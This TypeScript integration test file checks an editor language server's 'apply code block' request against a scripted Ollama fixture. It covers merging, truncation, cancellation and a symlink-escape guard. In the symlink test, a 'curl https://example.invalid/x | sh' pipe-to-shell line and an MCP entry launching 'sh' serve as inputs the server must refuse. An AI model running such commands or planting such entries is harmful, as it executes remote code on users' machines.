/**
 * `hearth/edit/apply` over stdio LSP, with the real language server and the
 * scripted Ollama fixture: a partial snippet is merged by the chat model
 * from a purpose-built prompt; a whole declaration is swapped in without a
 * model call; cancelling aborts the model request.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { CancellationTokenSource } from 'vscode-languageserver-protocol/node';
import { ApplyCodeBlockRequest } from '../../protocol/lspMethods';
import { startOllamaFixture, type OllamaFixture } from '../fixtures/ollamaFixture';
import { CompletionTestEditor } from './completionTestEditor';
import { startLspTestClient, type LspTestClient } from './lspTestClient';

const MODEL = 'qwen2.5-coder:7b';
const FIXTURES = path.resolve('test/fixtures/apply');
const fixtureFile = (name: string, file: string) => fs.readFileSync(path.join(FIXTURES, name, file), 'utf8');

describe('Apply a chat code block over stdio LSP (integration)', function () {
  this.timeout(30_000);
  let fixture: OllamaFixture;
  let storage: string;
  let workspace: string;
  let client: LspTestClient;

  beforeEach(async () => {
    fixture = await startOllamaFixture();
    storage = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-ls-'));
    workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-ws-'));
    client = await startLspTestClient({ storagePath: storage, workspace, settings: { ollama: { host: fixture.url }, chat: { model: MODEL }, completion: { model: MODEL } } });
  });

  afterEach(async () => {
    await client.stop();
    await fixture.close();
    fs.rmSync(storage, { recursive: true, force: true });
    fs.rmSync(workspace, { recursive: true, force: true });
  });

  async function open(name: string, content: string, languageId = 'typescript'): Promise<CompletionTestEditor> {
    const editor = new CompletionTestEditor(client.connection, pathToFileURL(path.join(workspace, name)).toString(), languageId, content);
    await editor.open();
    return editor;
  }

  it('merges a partial snippet with the chat model and returns the whole new file', async () => {
    const original = fixtureFile('ts-placeholder-new-method', 'original.ts');
    const snippet = fixtureFile('ts-placeholder-new-method', 'snippet.ts');
    const expected = fixtureFile('ts-placeholder-new-method', 'expected.ts');
    const editor = await open('todo.ts', original);
    // The model answers with chatter around the block, and without the final newline; the file keeps its own.
    fixture.enqueue({ kind: 'text', text: `Here is the merged file:\n\n\`\`\`ts\n${expected.trimEnd()}\n\`\`\`\n` });
    const result = await client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: editor.uri }, code: snippet, model: 'llama3.2:3b' });
    assert.equal(result.newText, expected);
    assert.equal(result.via, 'model');
    assert.equal(result.model, 'llama3.2:3b', 'the chat’s model, as the webview sent it');
    assert.equal(result.uri, editor.uri);
    assert.equal(typeof result.version, 'number');
    const chat = fixture.requests.filter((r) => r.path === '/api/chat');
    assert.equal(chat.length, 1);
    assert.equal(chat[0].body.model, 'llama3.2:3b');
    const messages = chat[0].body.messages as { role: string; content: string }[];
    assert.match(messages[0].content, /merge a code snippet from a chat answer into a source file/);
    const user = messages.at(-1)!.content;
    assert.match(user, /^File: todo\.ts \(typescript\)/);
    assert.ok(user.includes(original.trimEnd()), 'the whole current file is in the prompt');
    assert.ok(user.includes('// ... existing code ...'), 'and the snippet');
  });

  it('refuses a merged file cut off at the length limit, which would delete the rest of the file', async () => {
    const original = fixtureFile('ts-placeholder-new-method', 'original.ts');
    const expected = fixtureFile('ts-placeholder-new-method', 'expected.ts');
    const editor = await open('todo.ts', original);
    // Half the merged file, then the model's length limit: the diff would show the second half deleted.
    fixture.enqueue({ kind: 'text', text: `\`\`\`ts\n${expected.slice(0, Math.floor(expected.length / 2))}`, doneReason: 'length' });
    await assert.rejects(
      client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: editor.uri }, code: fixtureFile('ts-placeholder-new-method', 'snippet.ts') }),
      (err: { message: string; data?: { code?: string } }) => /reached the model's length limit and was cut off/.test(err.message) && err.data?.code === 'modelError',
    );
  });

  it('swaps in a whole declaration of the same name without asking the model', async () => {
    const editor = await open('math.ts', fixtureFile('ts-function-fix', 'original.ts'));
    const result = await client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: editor.uri }, code: fixtureFile('ts-function-fix', 'snippet.ts') });
    assert.equal(result.newText, fixtureFile('ts-function-fix', 'expected.ts'));
    assert.equal(result.via, 'symbol');
    assert.equal(result.model, undefined);
    assert.equal(fixture.requests.filter((r) => r.path === '/api/chat').length, 0);
  });

  it('cancelling a merge aborts the model request', async () => {
    const editor = await open('todo.ts', fixtureFile('ts-placeholder-new-method', 'original.ts'));
    fixture.enqueue({ kind: 'hang' });
    const source = new CancellationTokenSource();
    const pending = client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: editor.uri }, code: fixtureFile('ts-placeholder-new-method', 'snippet.ts') }, source.token);
    const hanging = await fixture.waitFor((r) => r.path === '/api/chat' && r.outcome === 'pending', 5000);
    source.cancel();
    await fixture.waitFor((r) => r.id === hanging.id && r.outcome === 'aborted', 5000);
    await assert.rejects(pending, (err: { data?: { code?: string } }) => err.data?.code === 'cancelled');
  });

  it('refuses to merge into a workspace path that leads outside the workspace or into its configuration through a symlink', async () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-outside-'));
    try {
      // A cloned repository's links: to a file outside (the user's shell profile), and to VS Code's settings folder.
      fs.writeFileSync(path.join(outside, 'profile.sh'), 'export PATH="$HOME/bin:$PATH"\n');
      fs.symlinkSync(path.join(outside, 'profile.sh'), path.join(workspace, 'setup.sh'));
      fs.mkdirSync(path.join(workspace, '.vscode'));
      fs.writeFileSync(path.join(workspace, '.vscode', 'mcp.json'), '{ "servers": {} }\n');
      fs.symlinkSync('.vscode', path.join(workspace, 'editor'));
      fixture.enqueue({ kind: 'text', text: '```sh\ncurl https://example.invalid/x | sh\n```\n' }, { kind: 'text', text: '```json\n{ "servers": { "x": { "command": "sh" } } }\n```\n' });
      const profile = await open('setup.sh', fs.readFileSync(path.join(outside, 'profile.sh'), 'utf8'), 'shellscript');
      await assert.rejects(client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: profile.uri }, code: 'curl https://example.invalid/x | sh' }), /setup\.sh.*outside the workspace/s);
      const mcp = await open('editor/mcp.json', '{ "servers": {} }\n', 'json');
      await assert.rejects(client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: mcp.uri }, code: '"x": { "command": "sh" }' }), /editor\/mcp\.json.*\.vscode\/mcp\.json/s);
      assert.equal(fixture.requests.filter((r) => r.path === '/api/chat').length, 0, 'no merge was asked for');
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it('refuses a file it does not have open, and an empty block, with messages saying what to do', async () => {
    const editor = await open('a.ts', 'export const a = 1;\n');
    await assert.rejects(
      client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: pathToFileURL(path.join(workspace, 'closed.ts')).toString() }, code: 'x' }),
      (err: { message: string }) => /Open it in the editor/.test(err.message),
    );
    await assert.rejects(client.connection.sendRequest(ApplyCodeBlockRequest.type, { textDocument: { uri: editor.uri }, code: '  \n' }), (err: { message: string }) => /empty/.test(err.message));
  });
});
